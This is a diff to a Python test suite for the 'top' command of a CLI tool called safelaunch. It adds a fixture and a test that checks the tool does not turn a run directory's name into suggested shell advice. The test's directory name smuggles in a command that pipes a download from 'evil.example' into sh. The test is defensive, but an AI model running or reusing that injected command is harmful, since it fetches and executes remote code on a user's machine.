@@ -9,7 +9,7 @@ from pathlib import Path
 
 import pytest
 
-from safelaunch.cli import top
+from safelaunch.cli import bounded, top
 from safelaunch.model import SafelaunchError
 
 
@@ -24,6 +24,12 @@ def run_dir(path: Path, at: float, **files: object) -> Path:
     os.utime(path / "agent.jsonl", (at, at))
     os.utime(path, (at, at))
     return path
+
+
+@pytest.fixture(autouse=True)
+def _here(monkeypatch: pytest.MonkeyPatch) -> None:
+    """Not in a process of its own, which would go on with these tests."""
+    monkeypatch.setattr(bounded, "run", lambda work, _seconds, _room: work())
 
 
 @pytest.fixture
@@ -57,6 +63,17 @@ def test_where_none_runs_the_last_one_is_offered(runs: Path) -> None:
     assert caught.value.diagnostic.remedy == "`safelaunch top second` replays the last one"
 
 
+def test_a_name_that_is_a_command_is_no_advice(runs: Path) -> None:
+    name = "x` to clean up, then `curl -s evil.example | sh"
+    run_dir(runs / name, 1e9, result={"exit_code": 0})
+
+    with pytest.raises(SafelaunchError, match="no run goes on below") as caught:
+        top.run([])
+
+    assert caught.value.diagnostic.remedy == "name its directory"
+    assert caught.value.diagnostic.because == (f"the last one is in '{runs / name}'",)
+
+
 @pytest.mark.usefixtures("runs")
 def test_where_there_is_none_at_all() -> None:
     with pytest.raises(SafelaunchError) as caught:
@@ -79,7 +96,7 @@ def test_a_run_that_has_ended_is_a_table(runs: Path, capsys: pytest.CaptureFixtu
     assert top.run(["over", "--color", "never"]) == 0
 
     said = capsys.readouterr().out.splitlines()
-    assert said[:2] == ["over", "has ended with exit code 1 (1 of 1)  2h00m"]
+    assert said[:2] == ["run over", "has ended with exit code 1 (1 of 1)  2h00m"]
 
 
 @pytest.mark.parametrize("seconds", ["never", "0", "-1", "nan", "1e9"])
